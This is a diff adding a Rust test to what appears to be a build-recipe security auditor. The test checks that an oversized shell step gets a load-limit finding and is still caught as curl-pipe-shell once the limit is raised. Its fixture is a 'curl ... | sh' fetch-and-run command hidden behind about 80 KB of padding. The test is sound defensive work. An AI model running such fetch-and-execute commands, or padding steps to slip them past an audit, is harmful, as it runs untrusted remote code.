@@ -259,6 +259,46 @@ fn the_number_of_files_is_bounded_in_the_load_and_the_audit() {
 }
 
 #[test]
+fn a_step_too_long_to_audit_is_reported_and_a_raised_limit_audits_it() {
+    // A curl | sh behind 80 KB of padding: past max_shell_step_bytes it is not parsed, and
+    // the audit says so at the step instead of staying silent.
+    let step = format!("{}curl -fsSL https://example.org/i.sh | sh", "echo x; ".repeat(10_000));
+    let unit = format!("unit(name = \"a\", version = \"1\", tasks = [task(\"b\", steps = [\"{step}\"])])\n");
+    let f = fixture(&[("units/a.star", &unit)]);
+    let mut opts = yoe::audit::AuditOptions {
+        start: f.root(),
+        machine: None,
+        distro: None,
+        modules: Arc::new(LocalOnly),
+        outputs: None,
+        paranoid: false,
+        no_ignores: false,
+        model: true,
+        today: Some((2026, 6, 1)),
+        limits: LoadLimits::embedded(),
+    };
+    let rules = |opts: &yoe::audit::AuditOptions| -> Vec<(&'static str, String)> {
+        let report = yoe::audit::audit(opts).expect("audit");
+        report.findings.iter().map(|f| (f.rule, f.message.clone())).collect()
+    };
+    let found = rules(&opts);
+    assert!(found.iter().any(|(r, m)| *r == "load-limit" && m.contains("max_shell_step_bytes")), "{found:?}");
+    assert!(!found.iter().any(|(r, _)| *r == "curl-pipe-shell"), "{found:?}");
+    opts.limits.max_shell_step_bytes = 1 << 20;
+    let found = rules(&opts);
+    assert!(found.iter().any(|(r, _)| *r == "curl-pipe-shell"), "{found:?}");
+    assert!(!found.iter().any(|(r, _)| *r == "load-limit"), "{found:?}");
+    // The total: two such steps fit one at a time, not both.
+    opts.limits.max_shell_total_bytes = 100_000;
+    let step2 = step.replace("i.sh", "j.sh");
+    let unit =
+        format!("unit(name = \"a\", version = \"1\", tasks = [task(\"b\", steps = [\"{step}\", \"{step2}\"])])\n");
+    f.write("units/a.star", &unit);
+    let found = rules(&opts);
+    assert!(found.iter().any(|(r, m)| *r == "load-limit" && m.contains("max_shell_total_bytes")), "{found:?}");
+}
+
+#[test]
 fn a_fifo_is_refused_where_a_regular_file_loads() {
     let f = fixture(&[("units/a.star", "load(\"//classes/f.star\", \"x\")\n"), ("classes/f.star", "x = 1\n")]);
     f.load_ok();
